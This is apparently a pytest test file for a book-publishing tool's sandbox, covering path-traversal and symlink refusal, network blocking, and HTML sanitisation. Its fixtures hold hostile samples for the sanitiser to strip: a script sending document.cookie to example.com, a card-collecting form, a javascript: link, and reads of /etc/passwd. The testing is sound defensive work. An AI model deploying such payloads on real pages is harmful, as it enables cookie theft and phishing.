"""The sandbox: nothing outside the book folder is read, nothing is fetched from the network unless the
author opts in, WeasyPrint's fetcher is confined the same way, and raw HTML is sanitised with a warning
for everything removed."""

from __future__ import annotations

import http.server
import io
import socket
import threading
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from bookfolder import PNG, TINY_COVER, write_book
from lxml import etree

from publish.build import build
from publish.diagnostics import BuildFailed, Diagnostic
from publish.epub import render_epub
from publish.manuscript import load_manuscript
from publish.model import Book
from publish.parse import parse_book
from publish.pdf import _fetcher
from publish.templates import STYLES_DIR


def failure(book: Path) -> tuple[Diagnostic, ...]:
    with pytest.raises(BuildFailed) as caught:
        parse_book(load_manuscript(book))
    return caught.value.diagnostics


def codes(diagnostics: tuple[Diagnostic, ...]) -> list[tuple[str, int | None]]:
    return [(d.code, d.line) for d in diagnostics]


# --- nothing outside the book folder ------------------------------------------------------------

def test_image_paths_that_climb_out_or_are_absolute_are_refused(tmp_path: Path) -> None:
    (tmp_path / "secret.png").write_bytes(PNG)
    # "/etc/secret.png" is written for a site whose root is the book folder: it is looked for there.
    chapter = "# One\n\n![a](../secret.png)\n\n![b](/etc/secret.png)\n\n![c](images/../../secret.png)\n\n![d](/../secret.png)\n"
    found = codes(failure(write_book(tmp_path / "book", chapters={"01-one.md": chapter})))
    assert found == [("image-outside", 3), ("image-missing", 5), ("image-outside", 7), ("image-outside", 9)]


def test_link_paths_that_climb_out_or_are_absolute_are_refused(tmp_path: Path) -> None:
    (tmp_path / "other.md").write_text("# Elsewhere\n")
    chapter = "# One\n\n[a](../other.md)\n\n[b](/etc/passwd)\n\n[c](file:///etc/passwd)\n"
    book = write_book(tmp_path / "book", chapters={"01-one.md": chapter})
    parsed = parse_book(load_manuscript(book))
    diagnostics = parsed.diagnostics
    # file: is not a scheme a book may link to: the sanitiser removes the address, with a warning;
    # the others are warnings too, and each link's text stays without its link.
    assert codes(diagnostics) == [("html-unsafe-url", 7), ("link-outside", 3), ("broken-link", 5)]
    assert "outside the book folder" in diagnostics[1].message
    assert "href" not in parsed.chapters[0].html


def test_symbolic_links_out_of_the_book_folder_are_not_followed(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "diary.md").write_text("# My secret diary\n")
    (outside / "photo.png").write_bytes(PNG)
    book = write_book(tmp_path / "book", chapters={"01-one.md": "# One\n\n![A photo](photo.png)\n"})
    (book / "02-diary.md").symlink_to(outside / "diary.md")
    (book / "photo.png").symlink_to(outside / "photo.png")
    with pytest.raises(BuildFailed) as caught:
        load_manuscript(book)
    assert codes(caught.value.diagnostics) == [("chapter-outside", None)]
    (book / "02-diary.md").unlink()
    assert codes(failure(book)) == [("image-outside", 3)]


def test_chapters_listed_outside_the_book_folder_are_refused(tmp_path: Path) -> None:
    (tmp_path / "x.md").write_text("# X\n")
    book = write_book(tmp_path / "book", config="title: T\nchapters: [../x.md, /etc/hostname]\n")
    with pytest.raises(BuildFailed) as caught:
        load_manuscript(book)
    assert [d.code for d in caught.value.diagnostics] == ["chapter-outside", "chapter-outside"]


def test_a_book_yaml_linked_from_outside_is_refused(tmp_path: Path) -> None:
    (tmp_path / "elsewhere.yaml").write_text("title: Not Mine\n")
    book = write_book(tmp_path / "book")
    (book / "book.yaml").unlink()
    (book / "book.yaml").symlink_to(tmp_path / "elsewhere.yaml")
    with pytest.raises(BuildFailed) as caught:
        load_manuscript(book)
    assert caught.value.diagnostics[0].code == "config-outside"


# --- the network ----------------------------------------------------------------------------

@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> list[object]:
    """Any attempt to resolve or connect fails the test (and is recorded)."""
    attempts: list[object] = []

    def refuse(*args: object, **kwargs: object) -> None:
        attempts.append(args)
        raise AssertionError(f"the build tried to use the network: {args}")

    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket.socket, "connect", refuse)
    return attempts


def test_a_remote_image_is_refused_with_a_clear_message(tmp_path: Path, no_network: list[object]) -> None:
    chapter = "# One\n\n![A drum](https://example.com/drum.png)\n\n![A horn](//example.com/horn.png)\n"
    book = parse_book(load_manuscript(write_book(tmp_path / "book", chapters={"01-one.md": chapter})))
    diagnostics = book.diagnostics
    assert codes(diagnostics) == [("image-remote", 3), ("image-remote", 5)]
    assert "<img" not in book.chapters[0].html and "A drum" in book.chapters[0].html
    assert "a build reads nothing from the network" in diagnostics[0].message
    assert "remote-images: true" in (diagnostics[0].hint or "")
    assert no_network == []


@pytest.mark.e2e
def test_a_whole_build_makes_no_network_request(tmp_path: Path, no_network: list[object]) -> None:
    chapter = ("# One\n\nSee [the film](https://example.com/whiplash) and <a href='http://example.org/'>this</a>.\n\n"
               "![A pixel](images/pixel.png)\n")
    book = write_book(tmp_path / "book", chapters={"01-one.md": chapter}, files={"images/pixel.png": PNG})
    result = build(book, tmp_path / "out", source_date_epoch="0")
    assert len(result.outputs) == 3 and no_network == []
    assert not [d for d in result.diagnostics if d.code == "pdf-layout"]


class _Images(http.server.BaseHTTPRequestHandler):
    requests: list[str] = []

    def do_GET(self) -> None:  # noqa: N802 - the http.server name
        type(self).requests.append(self.path)
        body, kind = (PNG, "image/png") if self.path.endswith(".png") else (b"<html>a page</html>", "text/html")
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def image_server() -> Iterator[str]:
    _Images.requests = []
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Images)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


def test_remote_images_are_downloaded_only_when_the_author_opts_in(tmp_path: Path, image_server: str,
                                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    chapter = f"# One\n\n![A pixel from the web]({image_server}/pixel.png)\n"
    book_dir = write_book(tmp_path / "book", config="title: Web\nremote-images: true\n", chapters={"01-one.md": chapter})
    book = parse_book(load_manuscript(book_dir))
    (asset,) = book.assets
    assert asset.href.startswith("web-images/") and asset.href.endswith(".png") and asset.media_type == "image/png"
    assert asset.source.read_bytes() == PNG and asset.source.is_relative_to(tmp_path / "cache")
    assert f'src="{asset.href}"' in book.chapters[0].html
    with zipfile.ZipFile(io.BytesIO(render_epub(book, cover=TINY_COVER))) as epub:
        assert epub.read(f"EPUB/{asset.href}") == PNG
    # WeasyPrint finds the image where the print edition's HTML says it is.
    assert _fetcher(book.root, assets=book.assets).fetch((book.root / asset.href).as_uri()).read() == PNG
    # A rebuild uses the cache: no second request, and nothing written into the book folder.
    parse_book(load_manuscript(book_dir))
    assert _Images.requests == ["/pixel.png"]
    assert sorted(p.name for p in book_dir.iterdir()) == ["01-one.md", "book.yaml"]


def test_a_remote_address_that_is_not_an_image_is_refused(tmp_path: Path, image_server: str,
                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    chapter = f"# One\n\n![A page]({image_server}/page.html)\n\n![Nothing](http://127.0.0.1:9/none.png)\n"
    book = write_book(tmp_path / "book", config="title: Web\nremote-images: true\n", chapters={"01-one.md": chapter})
    assert codes(failure(book)) == [("image-type", 3), ("image-download", 5)]


# --- WeasyPrint's fetcher -------------------------------------------------------------------

@pytest.fixture
def small_book(tmp_path: Path) -> Book:
    (tmp_path / "secret.txt").write_text("not for the book")
    folder = write_book(tmp_path / "book", files={"images/pixel.png": PNG})
    (folder / "leak.png").symlink_to(tmp_path / "secret.txt")
    return parse_book(load_manuscript(folder))


@pytest.mark.parametrize("url", [
    "http://example.com/a.png", "https://example.com/font.woff2", "ftp://example.com/x", "file:///etc/hostname",
    "file://otherhost/etc/hostname",
])
def test_the_pdf_fetcher_refuses_the_network_and_files_elsewhere(small_book: Book, url: str,
                                                                 no_network: list[object]) -> None:
    with pytest.raises(ValueError, match="a build reads only files inside the book folder|disallowed protocol"):
        _fetcher(small_book.root).fetch(url)
    assert no_network == []


def test_the_pdf_fetcher_refuses_links_out_of_the_book_folder(small_book: Book) -> None:
    leak = small_book.root / "leak.png"
    with pytest.raises(ValueError, match="a build reads only files inside the book folder"):
        _fetcher(small_book.root).fetch(leak.as_uri())
    with pytest.raises(ValueError):
        _fetcher(small_book.root).fetch((small_book.root / ".." / "secret.txt").as_uri())


def test_the_pdf_fetcher_reads_the_book_folder_styles_and_data(small_book: Book) -> None:
    fetcher = _fetcher(small_book.root)
    assert fetcher.fetch((small_book.root / "images" / "pixel.png").as_uri()).read() == PNG
    assert b"@font-face" in fetcher.fetch((STYLES_DIR / "fonts.css").as_uri()).read()
    assert fetcher.fetch("data:text/plain,hello").read() == b"hello"


# --- raw HTML ---------------------------------------------------------------------------------

HOSTILE = """# One

A paragraph with <span onclick="steal()">a handler</span>.

<script>document.location = "https://example.com/?" + document.cookie</script>

<iframe src="https://example.com/"></iframe>

<form action="https://example.com/"><input name="card"><button>Pay</button></form>

<style>body { display: none }</style>

<p style="color: white">Invisible ink.</p>

<p hidden>A hidden line.</p>

<a href="javascript:alert(1)">A trap</a> and <b><i>misnested</b></i> tags\x01 and a \x0b control.
"""


@pytest.fixture
def hostile(tmp_path: Path) -> Book:
    return parse_book(load_manuscript(write_book(tmp_path / "book", chapters={"01-one.md": HOSTILE})))


def test_everything_removed_from_raw_html_is_reported_with_its_line(hostile: Book) -> None:
    found = [(d.code, d.line) for d in hostile.diagnostics]
    assert found == [
        ("control-characters", 17),
        ("html-event-handler", 3), ("html-script", 5), ("html-embed", 7), ("html-form", 9), ("html-form", 9),
        ("html-form", 9), ("html-style", 11), ("html-style", 13), ("html-style", 15), ("html-unsafe-url", 17),
    ]
    assert all(d.file.parts[-2:] == ("book", "01-one.md") and d.hint for d in hostile.diagnostics)


def test_sanitised_html_keeps_the_text_and_drops_the_rest(hostile: Book) -> None:
    html = hostile.chapters[0].html
    for gone in ("onclick", "<script", "document.cookie", "<iframe", "<form", "<input", "<button", "<style",
                 "display: none", "style=", "<p hidden", "javascript:", "\x01", "\x0b"):
        assert gone not in html, gone
    for kept in ("a handler", "Invisible ink.", "A hidden line.", "A trap", "misnested"):
        assert kept in html
    etree.fromstring(f"<div>{html}</div>")  # well-formed XML
    assert "<b><i>misnested</i></b>" in html


def test_the_epub_is_never_scripted(hostile: Book) -> None:
    with zipfile.ZipFile(io.BytesIO(render_epub(hostile, cover=TINY_COVER))) as epub:
        opf = etree.fromstring(epub.read("EPUB/content.opf"))
        properties = " ".join(opf.xpath("//*[local-name()='item']/@properties"))
        assert "scripted" not in properties
        for name in epub.namelist():
            if name.endswith(".xhtml"):
                assert b"<script" not in epub.read(name)
